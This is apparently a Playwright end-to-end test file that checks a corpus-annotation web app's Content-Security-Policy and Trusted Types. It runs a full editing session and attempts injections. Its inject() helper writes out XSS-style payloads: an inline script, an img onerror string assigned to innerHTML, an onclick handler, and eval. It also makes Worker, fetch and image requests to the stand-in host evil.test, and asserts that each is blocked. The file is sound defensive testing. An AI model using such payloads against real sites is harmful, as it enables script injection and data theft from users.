import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { CSP_HEADER, CSP_META } from '../scripts/csp.mjs';
import { guardPage } from './csp-guard';
import { shared, waitForDoc } from './helpers';

// Case 44 (../shared/reliability.md §4, §5.C): the production build, served with its
// Content-Security-Policy, runs a whole session without one violation; injected script is
// blocked and reported; Trusted Types make string assignment to innerHTML throw.

const SAMPLE = 'multipath-tcp.bio.txt';
const OUT = process.env.E2E_OUT ?? 'dist';

test('C44: the policy is sent as a header, written into the built index.html and public/_headers; no inline script or style', async ({
  request,
}) => {
  for (const path of ['/', '/index.html', '/sample.bio.txt', '/trusted-types.js']) {
    const res = await request.get(path);
    expect(res.status(), path).toBe(200);
    expect(res.headers()['content-security-policy'], path).toBe(CSP_HEADER);
    expect(res.headers()['x-content-type-options'], path).toBe('nosniff');
  }
  const headers = readFileSync('public/_headers', 'utf8');
  expect(headers).toContain(`/*\n  Content-Security-Policy: ${CSP_HEADER}\n`);

  const html = readFileSync(resolve(OUT, 'index.html'), 'utf8');
  expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="${CSP_META}" />`);
  // a <meta> policy cannot carry frame-ancestors (the header does)
  expect(CSP_META).not.toContain('frame-ancestors');
  expect(CSP_HEADER).toContain("frame-ancestors 'none'");
  // the <meta> comes before anything it governs
  expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<script'));
  const scripts = [...html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)];
  expect(scripts.length).toBeGreaterThan(0);
  for (const [, attrs, body] of scripts) {
    expect(attrs, 'every script is a file').toMatch(/\bsrc="\/[^"]+"/);
    expect(body?.trim(), 'no inline script').toBe('');
  }
  expect(html).not.toMatch(/<style\b/i);
  expect(html).not.toMatch(/\sstyle=/i);
  expect(html).not.toMatch(/\son[a-z]+=/i);
});

test('C44: a whole session under the policy: open, edit by keys and mouse, every panel, workers, a big file, export: zero violations', async ({
  page,
}) => {
  test.setTimeout(120_000);
  const guard = await guardPage(page);
  await page.goto('/');
  await waitForDoc(page, SAMPLE);
  const grid = page.getByRole('grid', { name: 'Sentences' });
  const counter = page.getByText(/tags? changed in \d+ sentences?/);

  // keys: move, select, label, repeat, remove, undo, redo
  await grid.focus();
  await page.keyboard.press('ArrowRight');
  await page.keyboard.press('Shift+ArrowRight');
  await page.keyboard.press('2');
  await expect(counter).not.toHaveText('0 tags changed in 0 sentences');
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('.');
  await page.keyboard.press('Backspace');
  await page.keyboard.press('Control+z');
  await page.keyboard.press('Control+Shift+z');
  // mouse: click, shift-click, label from the palette; select an entity by its chip, remove it
  const row3 = grid.locator('[role="row"][data-s="2"]');
  await row3.locator('[role="gridcell"]').nth(0).click();
  await row3
    .locator('[role="gridcell"]')
    .nth(1)
    .click({ modifiers: ['Shift'] });
  await page.getByRole('button', { name: /^Label as Protocol/ }).click();
  await row3.locator('[data-chip]').first().click();
  await page
    .getByRole('toolbar', { name: 'Entity' })
    .getByRole('button', { name: 'Remove' })
    .click();
  await expect(counter).not.toHaveText('0 tags changed in 0 sentences');

  // every panel; search (words and a regex, which runs in a worker); inconsistencies (worker)
  await page.getByRole('button', { name: 'Search', exact: true }).click();
  const result = page.getByRole('status', { name: 'Search result' });
  await page.getByLabel('Search for').fill('networks');
  await page.getByLabel('Search for').press('Enter');
  await expect(result).toHaveText('5 matches in 4 sentences');
  await page.getByLabel('Search mode').selectOption('regex');
  await page.getByLabel('Search for').fill('Multi\\w+ QUIC');
  await page.getByLabel('Search for').press('Enter');
  await expect(result).toHaveText('1 match in 1 sentences');
  await page.getByLabel('Search for').fill('(\\w+\\s?)*!');
  await page.getByLabel('Search for').press('Enter');
  await expect(result).toContainText('Search stopped', { timeout: 10_000 });
  await page.getByRole('button', { name: /^Inconsistencies/ }).click();
  await expect(page.getByRole('status', { name: 'Consistency status' })).toContainText(
    'labelled inconsistently',
    { timeout: 20_000 },
  );
  await page
    .getByRole('complementary', { name: 'Inconsistencies' })
    .getByRole('button', { name: /“network”/ })
    .click();
  await page.getByRole('button', { name: 'Changes', exact: true }).click();
  await expect(page.getByRole('complementary', { name: 'Changes' })).toBeVisible();
  await page.getByRole('button', { name: 'Statistics', exact: true }).click();
  await expect(page.getByRole('list', { name: 'Entities per label' })).toBeVisible();
  await page.getByRole('button', { name: 'Label set', exact: true }).click();
  await expect(page.getByRole('list', { name: 'Label types' })).toBeVisible();
  await page.getByRole('button', { name: /^Problems/ }).click();
  await expect(page.getByRole('complementary', { name: 'Problems' })).toBeVisible();
  await page.getByRole('button', { name: 'Shortcuts', exact: true }).click();
  await expect(page.getByRole('heading', { name: 'Keyboard shortcuts' })).toBeVisible();
  await page.getByRole('button', { name: 'Close', exact: true }).click();

  // export (a Blob download) and Export as… another format
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export', exact: true }).click();
  expect((await download).suggestedFilename()).toBe(SAMPLE);
  await page.getByRole('button', { name: 'Export as…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Export as' });
  await dialog.getByRole('radio', { name: /doccano/i }).check();
  const download2 = page.waitForEvent('download');
  await dialog.getByRole('button', { name: 'Download' }).click();
  await download2;
  await page.keyboard.press('Escape');

  // files: CoNLL-2003 dev (read in the page), then train (3 MB: read in the parse worker)
  await page
    .getByLabel('Open a corpus file')
    .setInputFiles(shared('corpora/conll2003/iob1/eng.testa'));
  await waitForDoc(page, 'eng.testa');
  await expect(grid).toHaveAttribute('aria-rowcount', '3250', { timeout: 30_000 });
  await page
    .getByLabel('Open a corpus file')
    .setInputFiles(shared('corpora/conll2003/iob1/eng.train'));
  await waitForDoc(page, 'eng.train');
  await expect(grid).toHaveAttribute('aria-rowcount', '14041', { timeout: 60_000 });
  await grid.focus();
  await page.keyboard.press('Control+End');
  await page.keyboard.press('1');
  const download3 = page.waitForEvent('download');
  await page.keyboard.press('Control+s');
  expect((await download3).suggestedFilename()).toBe('eng.train');

  // the workers really ran, from the app's own files, and nothing was violated
  for (const w of ['search.worker', 'consistency.worker', 'parse.worker'])
    expect(
      guard.requests.some((r) => r.includes(`/assets/${w}`)),
      w,
    ).toBe(true);
  await guard.expectClean();
});

/** What became of each injection attempt: 'ran', or the error it threw, or how it ended. */
interface Outcome {
  textNodeScript: string;
  scriptText: string;
  innerHTML: string;
  handler: string;
  eval: string;
  fn: string;
  foreignWorker: string;
  fetch: string;
  image: string;
  pwned: string;
}

/** Tries, in the page, what an XSS payload would do; every payload sets `window.__pwned`. */
async function inject(page: Page): Promise<Outcome> {
  return page.evaluate(async () => {
    const w = window as unknown as { __pwned?: number };
    const tryIt = (f: () => unknown) => {
      try {
        f();
        return 'ran';
      } catch (e) {
        return `${(e as Error).name}: ${(e as Error).message}`;
      }
    };
    const settle = () => new Promise((r) => setTimeout(r, 50));
    const script = document.createElement('script');
    script.appendChild(document.createTextNode('window.__pwned = 1'));
    document.head.append(script);
    await settle();
    const textNodeScript = String(w.__pwned);
    const scriptText = tryIt(() => {
      const s = document.createElement('script');
      s.textContent = 'window.__pwned = 2';
      document.head.append(s);
    });
    const innerHTML = tryIt(() => {
      const div = document.createElement('div');
      // eslint-disable-next-line no-restricted-syntax -- the test: the policy must refuse it
      div.innerHTML = '<img src="data:," onerror="window.__pwned=3">';
      document.body.append(div);
    });
    const handler = tryIt(() => document.body.setAttribute('onclick', 'window.__pwned = 4'));
    document.body.click();
    const foreignWorker = tryIt(() => new Worker('http://evil.test/w.js'));
    const fetched = await fetch('http://evil.test/x').then(
      () => 'fetched',
      (e: Error) => e.name,
    );
    const image = await new Promise<string>((done) => {
      const img = new Image();
      img.onload = () => done('loaded');
      img.onerror = () => done('blocked');
      img.src = 'http://evil.test/i.png';
    });
    // eval and new Function from a task of the page's own: code that page.evaluate runs
    // directly is exempt from the policy's eval check (DevTools evaluation), a later task is not
    const later = await new Promise<{ eval: string; fn: string }>((done) =>
      setTimeout(() =>
        done({
          eval: tryIt(() => (0, eval)('window.__pwned = 5')),
          fn: tryIt(() => new Function('window.__pwned = 6')()),
        }),
      ),
    );
    await settle();
    return {
      textNodeScript,
      scriptText,
      innerHTML,
      handler,
      foreignWorker,
      fetch: fetched,
      image,
      ...later,
      pwned: String(w.__pwned),
    };
  });
}

/** The directives violated, each once (the header and the <meta> policy both report). */
const directivesOf = (violations: string[]) =>
  [...new Set(violations.map((v) => v.split(' ')[0]))].sort();

test('C44: injected script, handlers, eval and requests to other hosts are blocked and reported; innerHTML with a string throws (Trusted Types)', async ({
  page,
}) => {
  const guard = await guardPage(page);
  await page.goto('/');
  await waitForDoc(page, SAMPLE);
  const outcome = await inject(page);
  expect(outcome.pwned).toBe('undefined');
  expect(outcome.textNodeScript).toBe('undefined');
  expect(outcome.scriptText).toMatch(/^TypeError: .*TrustedScript/);
  expect(outcome.innerHTML).toMatch(/^TypeError: .*TrustedHTML/);
  expect(outcome.handler).toMatch(/^TypeError: .*TrustedScript/);
  expect(outcome.eval).toMatch(/^EvalError/);
  expect(outcome.fn).toMatch(/^EvalError/);
  expect(outcome.foreignWorker).toMatch(/refused script URL http:\/\/evil\.test\/w\.js/);
  expect(outcome.fetch).toBe('TypeError');
  expect(outcome.image).toBe('blocked');
  // reported: Trusted Types refuses the script, HTML and handler strings and eval first
  // (script text appended as a child node is refused without a report in Chromium)
  const violations = await guard.violations();
  expect(directivesOf(violations)).toEqual(['connect-src', 'img-src', 'require-trusted-types-for']);
  for (const sink of [
    'HTMLScriptElement textContent',
    'Element innerHTML',
    'Element onclick',
    'eval|',
    'Function|',
  ])
    expect(
      violations.some((v) => v.includes(sink)),
      sink,
    ).toBe(true);
  expect(violations.some((v) => v.startsWith('connect-src blocked http://evil.test/x'))).toBe(true);
  expect(violations.some((v) => v.startsWith('img-src blocked http://evil.test/i.png'))).toBe(true);
  // the browser never sent them: blocked before the network (the router saw none of them)
  expect(guard.foreign).toEqual([]);
  for (const r of guard.requests.filter((x) => x.includes('evil.test')))
    expect(guard.failed).toContainEqual(
      expect.stringMatching(new RegExp(`^${r.split(' ')[1]} .*csp`, 'i')),
    );
});

/** The policy as a browser without Trusted Types enforces it: the same minus the TT directives. */
const withoutTrustedTypes = (policy: string) =>
  policy
    .split('; ')
    .filter((d) => !/^(?:require-trusted-types-for|trusted-types)\b/.test(d))
    .join('; ');

test('C44: without Trusted Types (Firefox, Safari) the policy alone blocks inline script, handlers, eval and other hosts', async ({
  page,
}) => {
  // Chromium cannot switch Trusted Types off, so serve the real page with what such a browser
  // enforces: the shipped header and <meta>, minus the two directives it does not know
  const guard = await guardPage(page);
  await page.route(
    (url) => url.pathname === '/',
    async (route) => {
      const res = await route.fetch();
      const html = (await res.text()).replace(CSP_META, withoutTrustedTypes(CSP_META));
      expect(html).not.toMatch(/require-trusted-types-for|trusted-types default/);
      await route.fulfill({
        response: res,
        body: html,
        headers: { ...res.headers(), 'content-security-policy': withoutTrustedTypes(CSP_HEADER) },
      });
    },
  );
  await page.goto('/');
  await waitForDoc(page, SAMPLE);
  const outcome = await inject(page);
  expect(outcome.pwned).toBe('undefined');
  expect(outcome.textNodeScript).toBe('undefined');
  expect(outcome.scriptText).toBe('ran'); // inserted, never run
  expect(outcome.innerHTML).toBe('ran'); // parsed, its onerror never run
  expect(outcome.handler).toBe('ran'); // set, never run on click
  expect(outcome.foreignWorker).toMatch(/^SecurityError/); // workers are same-origin only
  expect(outcome.eval).toMatch(/^EvalError/);
  expect(outcome.fn).toMatch(/^EvalError/);
  expect(outcome.fetch).toBe('TypeError');
  expect(outcome.image).toBe('blocked');
  const violations = await guard.violations();
  expect(directivesOf(violations)).toEqual(
    ['connect-src', 'img-src', 'script-src', 'script-src-attr', 'script-src-elem'].sort(),
  );
  expect(guard.foreign).toEqual([]);
});
